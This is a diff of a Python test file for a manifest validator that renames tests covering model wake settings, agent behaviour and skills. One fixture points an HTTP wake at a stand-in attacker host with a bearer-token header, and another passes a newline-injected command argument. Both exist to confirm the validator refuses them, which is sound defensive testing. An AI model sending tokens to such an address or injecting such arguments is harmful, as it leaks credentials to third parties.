@@ -58,7 +58,7 @@ def model(wake: Wake) -> model_pb2.ModelManifest:
         command("/usr/bin/wake", "", "--host=x\ny"),
     ],
 )
-def test_a_good_plan_arrives_whole_and_goes_out_as_it_came(wake: Wake) -> None:
+def test_valid_plan_round_trips(wake: Wake) -> None:
     manifest = valid_model(model(wake), "m", published=False)
     again = valid_model(changed(manifest), "m", published=False)
     assert manifest == again
@@ -105,14 +105,14 @@ def test_a_good_plan_arrives_whole_and_goes_out_as_it_came(wake: Wake) -> None:
         (lan(port=65_536), "m.wake.by_mesh.wake_on_lan.port"),
     ],
 )
-def test_a_bad_plan_is_refused_by_its_path_without_repeating_it(wake: Wake, field: str) -> None:
+def test_invalid_plan_is_refused_with_its_path_and_not_echoed(wake: Wake, field: str) -> None:
     with pytest.raises(FieldError) as refusal:
         valid_model(model(wake), "m", published=False)
     assert refusal.value.field == field
     assert SECRET not in str(refusal.value)
 
 
-def test_a_runner_may_publish_packets_and_requests_but_no_programs() -> None:
+def test_runner_may_publish_wake_packets_and_requests_but_no_programs() -> None:
     for wake in (http(), lan(), Wake(by_runner=True)):
         assert valid_model(model(wake), "m", published=True).HasField("wake")
     with pytest.raises(FieldError) as refusal:
@@ -120,7 +120,7 @@ def test_a_runner_may_publish_packets_and_requests_but_no_programs() -> None:
     assert refusal.value.field == "m.wake.by_mesh.command"
 
 
-def test_a_runner_may_not_have_routers_send_their_secrets_somewhere() -> None:
+def test_runner_may_not_direct_router_secrets_to_an_address() -> None:
     wake = http("http://attacker.example/", **{"X-Plain": "as it is", "X-Key": "Bearer ${WEFT_WAKE_TOKEN}"})
     assert valid_model(model(wake), "m", published=False).HasField("wake")
     with pytest.raises(FieldError) as refusal:
@@ -146,7 +146,7 @@ def an_agent() -> agent_pb2.AgentManifest:
     return manifest
 
 
-def test_a_good_agent_arrives_whole_and_goes_out_as_it_came() -> None:
+def test_valid_agent_round_trips() -> None:
     assert valid_agent(an_agent(), "a") == an_agent()
     bare = valid_agent(agent_pb2.AgentManifest(name="a", pool="p"), "a")
     assert not bare.HasField("default_params")
@@ -160,12 +160,12 @@ def test_a_good_agent_arrives_whole_and_goes_out_as_it_came() -> None:
         agent_behaviour_pb2.AgentBehaviour(stop_on_decision_request=True, parse_text_tool_calls=True),
     ],
 )
-def test_asking_for_what_is_so_anyway_is_asking_for_nothing(behaviour: agent_behaviour_pb2.AgentBehaviour) -> None:
+def test_default_agent_behavior_is_dropped(behaviour: agent_behaviour_pb2.AgentBehaviour) -> None:
     asking = agent_pb2.AgentManifest(name="a", pool="p", behaviour=behaviour)
     assert valid_agent(asking, "a") == valid_agent(agent_pb2.AgentManifest(name="a", pool="p"), "a")
 
 
-def test_everything_an_agent_asks_for_counts_as_a_difference() -> None:
+def test_every_agent_behavior_field_counts_as_a_difference() -> None:
     for descriptor, _ in an_agent().behaviour.ListFields():
         less = an_agent()
         less.behaviour.ClearField(descriptor.name)  # type: ignore[arg-type]  # it is one of its fields
@@ -174,7 +174,7 @@ def test_everything_an_agent_asks_for_counts_as_a_difference() -> None:
     assert len(an_agent().behaviour.ListFields()) == len(agent_behaviour_pb2.AgentBehaviour.DESCRIPTOR.fields)
 
 
-def test_what_an_agent_asks_for_counts_towards_the_size_of_the_mesh() -> None:
+def test_agent_behavior_counts_towards_the_mesh_size() -> None:
     asking = valid_agent(an_agent(), "a")
     less = manifest_bytes(changed(asking, behaviour=None))
     assert manifest_bytes(asking) - less > len("files.readsearchNEEDS_EXTERNAL_INFOA")
@@ -241,7 +241,7 @@ def _param(name: str, value: object) -> Callable[[agent_pb2.AgentManifest], None
         (_behaviour("repetition_policy", 99), "a.behaviour.repetition_policy"),
     ],
 )
-def test_an_agent_with_one_bad_value_is_refused_by_its_path(
+def test_agent_with_an_invalid_value_is_refused_with_its_path(
     change: Callable[[agent_pb2.AgentManifest], None], field: str
 ) -> None:
     manifest = an_agent()
@@ -251,7 +251,7 @@ def test_an_agent_with_one_bad_value_is_refused_by_its_path(
     assert refusal.value.field == field
 
 
-def test_skills_arrive_once_each_in_order_and_go_out_again() -> None:
+def test_skills_are_deduplicated_sorted_and_returned() -> None:
     given = [model_pb2.MODEL_SKILL_TOOLS, model_pb2.MODEL_SKILL_TEXT, model_pb2.MODEL_SKILL_TOOLS]
     message = model(Wake(by_runner=True))
     message.skills.extend(given)
@@ -261,7 +261,7 @@ def test_skills_arrive_once_each_in_order_and_go_out_again() -> None:
 
 
 @pytest.mark.parametrize("number", [0, 5, -1])
-def test_a_skill_that_nobody_knows_is_refused(number: int) -> None:
+def test_unknown_skill_is_refused(number: int) -> None:
     message = model(Wake(by_runner=True))
     message.skills.append(model_pb2.ModelSkill.ValueType(number))
     with pytest.raises(FieldError) as refusal:
